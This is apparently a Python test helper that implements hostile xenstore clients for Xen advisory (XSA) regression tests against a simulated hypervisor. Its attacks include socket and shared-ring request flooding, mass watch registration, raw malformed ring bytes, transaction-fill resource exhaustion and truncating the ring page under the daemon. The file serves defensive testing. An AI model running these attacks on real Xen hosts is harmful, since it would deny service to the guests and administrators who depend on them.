#!/usr/bin/env python3
"""xsattack.py - hostile xenstore clients for the advisory tests (XSA-*).

Socket clients talk to $XENSTORED_PATH (else $XENSTORED_RUNDIR/socket);
ring clients play guest DOMID of the simulated hypervisor in DIR (the
page DIR/DOMID/ring, the channel DIR/DOMID/evtchn, notifications to
DIR/evtchn; see src/hv_sim.h), after `xenstore-sim create` and
`introduce`.

Its Ring is a guest of its own, apart from the C guest side every other
guest shares (src/ring_client.c: xenstore-sim, the unit tests', the
fuzzers'): an attack does what a driver never does (never consume, write
raw bytes and indexes, truncate the page) and its timing is the test, so
it stays a small Python client with only the index arithmetic those
attacks need; well-behaved guests in the same tests are xenstore-sim.

    socket-flood PATH SIZE      pipeline READs of PATH (SIZE bytes of
                                requests in all) and never read a reply;
                                prints "stalled SENT" once the daemon stops
                                taking requests, then holds on
    socket-watch COUNT PATH     register COUNT watches on PATH (tokens
                                t0..), take the replies and initial
                                events, print "watching", then never
                                read again and hold on
    ring-flood DIR DOMID PATH   as the guest: keep the request ring full
                                of READs of PATH and never consume a
                                response; prints "stalled SENT" once the
                                daemon stops consuming, then holds on
    ring-write-flood DIR DOMID PATH
                                as the guest: WRITEs to PATH as fast as the
                                ring takes them, replies read; prints
                                "writes N" after every 500 answered
    ring-watch DIR DOMID COUNT PATH
                                as the guest: COUNT watches on PATH (tokens
                                t0..), then never read; prints "watching"
    ring-raw DIR DOMID HEX      as the guest: put these bytes on the
                                request ring, notify, and print the ring's
                                error field once the daemon has set it
                                ("error=N", or "error=0" after 5 s)
    ring-txn-fill DIR DOMID TXNS NODES SIZE
                                as the guest: open TXNS transactions and
                                write NODES new nodes of SIZE bytes in each
                                (t<i>/<j/100>/n<j%100>, relative); prints one line per
                                transaction with the errors seen, then
                                "filled" and holds on with them open
    ring-truncate DIR DOMID SIZE
                                as the guest: map the ring page, truncate
                                its file to SIZE bytes under the daemon's
                                mapping, notify; prints "truncated SIZE"
                                (or "refused ERROR") and holds on

"Holds on" = keeps its connection (and its transactions, watches or
unread replies) until killed.  Every wait on the daemon is for its
notification or data, bounded; "stalled" is declared when the daemon
has had STALL_MS (default 500) to take more and did not.
"""
import ctypes
import mmap
import os
import select
import signal
import socket
import struct
import sys
import time

HDR = struct.Struct("<IIII")
STALL = int(os.environ.get("STALL_MS", "500")) / 1000.0
READ, WATCH, TXN_START, WRITE, ERROR, WATCH_EVENT = 2, 4, 6, 11, 16, 15


def sock_path():
    p = os.environ.get("XENSTORED_PATH")
    if p:
        return p
    return os.path.join(os.environ.get("XENSTORED_RUNDIR", "/var/run/xenstored"), "socket")


def msg(type_, req, payload, tx=0):
    return HDR.pack(type_, req, tx, len(payload)) + payload


def hold():
    """Keeps everything open until killed."""
    sys.stdout.flush()
    while True:
        signal.pause()


# ---- socket clients ---------------------------------------------------------

def socket_flood(path, size):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(sock_path())
    one = msg(READ, 1, path.encode() + b"\0")
    data = one * (size // len(one) + 1)
    s.setblocking(False)
    sent = 0
    while sent < len(data):
        _, w, _ = select.select([], [s], [], STALL)
        if not w:
            break          # the daemon stopped reading us
        try:
            sent += s.send(data[sent:sent + 65536])
        except BlockingIOError:
            pass
    print("stalled %d" % sent)
    hold()


def recv_msg(s):
    def exact(n):
        b = b""
        while len(b) < n:
            c = s.recv(n - len(b))
            if not c:
                raise EOFError("daemon closed the connection")
            b += c
        return b
    t, r, tx, n = HDR.unpack(exact(16))
    return t, r, tx, exact(n)


def socket_watch(count, path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(sock_path())
    for i in range(count):
        s.sendall(msg(WATCH, i + 1, path.encode() + b"\0t%d\0" % i))
        got_reply = got_event = False
        while not (got_reply and got_event):
            t, r, _, body = recv_msg(s)
            if t == WATCH_EVENT:
                got_event = True
            elif t == ERROR:
                print("error %s" % body.rstrip(b"\0").decode())
                hold()
            else:
                got_reply = True
    print("watching")
    hold()


# ---- ring clients -----------------------------------------------------------

class Ring:
    REQ, RSP = 0, 1024
    REQ_CONS, REQ_PROD, RSP_CONS, RSP_PROD = 2048, 2052, 2056, 2060
    ERROR_OFF = 2072

    def __init__(self, d, domid):
        self.dir, self.domid = d, int(domid)
        with open(os.path.join(d, str(self.domid), "port")) as f:
            self.port = int(f.read().strip() or 0)
        fd = os.open(os.path.join(d, str(self.domid), "ring"), os.O_RDWR)
        self.page = mmap.mmap(fd, 4096, mmap.MAP_SHARED)
        os.close(fd)
        self.idx = {off: ctypes.c_uint32.from_buffer(self.page, off)
                    for off in range(2048, 2080, 4)}
        me = os.path.join(d, str(self.domid), "evtchn")
        try:
            os.unlink(me)
        except FileNotFoundError:
            pass
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        self.sock.bind(me)
        self.daemon = os.path.join(d, "evtchn")
        self.inbuf = b""

    # The indexes are read and written as whole aligned 32-bit words, as a
    # guest kernel does (struct's "<I" goes byte by byte: the daemon could
    # see a torn index and rightly call the ring broken).
    def get(self, off):
        return self.idx[off].value

    def put(self, off, v):
        self.idx[off].value = v & 0xffffffff

    def notify(self):
        self.sock.sendto(struct.pack("<II", self.domid, self.port), self.daemon)

    def wait(self, timeout):
        """Waits for the daemon's notification; False on timeout."""
        r, _, _ = select.select([self.sock], [], [], timeout)
        if not r:
            return False
        while True:
            try:
                self.sock.recv(64, socket.MSG_DONTWAIT)
            except BlockingIOError:
                return True

    def space(self):
        return 1024 - ((self.get(self.REQ_PROD) - self.get(self.REQ_CONS)) & 0xffffffff)

    def write_some(self, data):
        """Puts as much of data on the request ring as fits; returns count."""
        prod = self.get(self.REQ_PROD)
        n = min(len(data), self.space())
        off = prod & 1023
        first = min(n, 1024 - off)
        self.page[self.REQ + off:self.REQ + off + first] = data[:first]
        self.page[self.REQ:self.REQ + n - first] = data[first:n]
        self.put(self.REQ_PROD, prod + n)
        if n:
            self.notify()
        return n

    def send_all(self, data, timeout=10.0):
        deadline = time.monotonic() + timeout
        while data:
            n = self.write_some(data)
            data = data[n:]
            if data and not self.wait(max(0.0, deadline - time.monotonic())):
                raise TimeoutError("daemon stopped consuming")

    def take(self):
        cons, prod = self.get(self.RSP_CONS), self.get(self.RSP_PROD)
        n = (prod - cons) & 0xffffffff
        if n > 1024:
            raise ValueError("daemon left impossible response indexes")
        off = cons & 1023
        first = min(n, 1024 - off)
        out = self.page[self.RSP + off:self.RSP + off + first] + \
            self.page[self.RSP:self.RSP + n - first]
        self.put(self.RSP_CONS, cons + n)
        if n:
            self.notify()
        return out

    def recv_msg(self, timeout=10.0):
        deadline = time.monotonic() + timeout
        while True:
            if len(self.inbuf) >= 16:
                t, r, tx, n = HDR.unpack(self.inbuf[:16])
                if len(self.inbuf) >= 16 + n:
                    body = self.inbuf[16:16 + n]
                    self.inbuf = self.inbuf[16 + n:]
                    return t, r, tx, body
            got = self.take()
            if got:
                self.inbuf += got
                continue
            if not self.wait(max(0.0, deadline - time.monotonic())):
                raise TimeoutError("no reply from the daemon")

    def call(self, type_, req, payload, tx=0):
        self.send_all(msg(type_, req, payload, tx))
        while True:
            t, r, rtx, body = self.recv_msg()
            if t != WATCH_EVENT and r == req:
                return t, body


def ring_flood(d, domid, path):
    g = Ring(d, domid)
    one = msg(READ, 1, path.encode() + b"\0")
    sent = 0
    while True:
        pending = one
        while pending:
            n = g.write_some(pending)
            pending = pending[n:]
            sent += n
            if pending and not g.wait(STALL):
                print("stalled %d" % sent)
                hold()


def ring_write_flood(d, domid, path):
    g = Ring(d, domid)
    one = msg(WRITE, 1, path.encode() + b"\0" + b"x" * 64)
    pending, answered = b"", 0
    while True:
        if not pending:
            pending = one * 8
        n = g.write_some(pending)
        pending = pending[n:]
        got = g.take()
        if got:
            g.inbuf += got
        while len(g.inbuf) >= 16:
            t, r, tx, ln = HDR.unpack(g.inbuf[:16])
            if len(g.inbuf) < 16 + ln:
                break
            g.inbuf = g.inbuf[16 + ln:]
            if t != WATCH_EVENT:
                answered += 1
                if answered % 500 == 0:
                    print("writes %d" % answered)
                    sys.stdout.flush()
        # A bound for a daemon that stopped answering: wide, as a loaded
        # machine may leave the daemon unscheduled for seconds.
        if not n and not got and not g.wait(60.0):
            raise TimeoutError("daemon stopped answering")


def ring_watch(d, domid, count, path):
    g = Ring(d, domid)
    for i in range(count):
        t, body = g.call(WATCH, i + 1, path.encode() + b"\0t%d\0" % i)
        if t == ERROR:
            print("error %s after %d" % (body.rstrip(b"\0").decode(), i))
            hold()
    # the initial events may still be on their way: take them, then stop
    while True:
        try:
            g.recv_msg(STALL)
        except TimeoutError:
            break
    print("watching")
    hold()


def ring_raw(d, domid, hexbytes):
    g = Ring(d, domid)
    g.send_all(bytes.fromhex(hexbytes))
    deadline = time.monotonic() + 5.0
    while g.get(Ring.ERROR_OFF) == 0 and time.monotonic() < deadline:
        g.wait(0.05)   # the daemon does not notify a ring it ignores
    print("error=%d" % g.get(Ring.ERROR_OFF))


def ring_txn_fill(d, domid, txns, nodes, size):
    g = Ring(d, domid)
    req = 0
    value = b"v" * size
    for i in range(txns):
        req += 1
        t, body = g.call(TXN_START, req, b"\0")
        if t == ERROR:
            print("txn %d: start %s" % (i, body.rstrip(b"\0").decode()))
            continue
        tx = int(body.rstrip(b"\0"))
        errors = {}
        for j in range(nodes):
            req += 1
            t, body = g.call(WRITE, req, b"t%d/%d/n%d\0" % (i, j // 100, j % 100) + value, tx)
            if t == ERROR:
                e = body.rstrip(b"\0").decode()
                errors[e] = errors.get(e, 0) + 1
        print("txn %d: %d writes, errors %s" % (i, nodes, errors or "none"))
        sys.stdout.flush()
    print("filled")
    hold()


def ring_truncate(d, domid, size):
    g = Ring(d, domid)
    path = os.path.join(d, str(g.domid), "ring")
    try:
        os.truncate(path, size)
    except OSError as e:
        print("refused %s" % e.strerror)
        hold()
    # Touch nothing of our own mapping now: past the end it faults.
    g.notify()
    print("truncated %d" % size)
    hold()


def main():
    a = sys.argv[1:]
    try:
        if a[:1] == ["socket-flood"] and len(a) == 3:
            socket_flood(a[1], int(a[2]))
        elif a[:1] == ["socket-watch"] and len(a) == 3:
            socket_watch(int(a[1]), a[2])
        elif a[:1] == ["ring-flood"] and len(a) == 4:
            ring_flood(a[1], a[2], a[3])
        elif a[:1] == ["ring-write-flood"] and len(a) == 4:
            ring_write_flood(a[1], a[2], a[3])
        elif a[:1] == ["ring-watch"] and len(a) == 5:
            ring_watch(a[1], a[2], int(a[3]), a[4])
        elif a[:1] == ["ring-raw"] and len(a) == 4:
            ring_raw(a[1], a[2], a[3])
        elif a[:1] == ["ring-txn-fill"] and len(a) == 6:
            ring_txn_fill(a[1], a[2], int(a[3]), int(a[4]), int(a[5]))
        elif a[:1] == ["ring-truncate"] and len(a) == 4:
            ring_truncate(a[1], a[2], int(a[3]))
        else:
            sys.stderr.write(__doc__)
            sys.exit(2)
    except (OSError, EOFError, TimeoutError, ValueError) as e:
        print("failed: %s" % e)
        sys.stdout.flush()
        sys.exit(1)


if __name__ == "__main__":
    main()
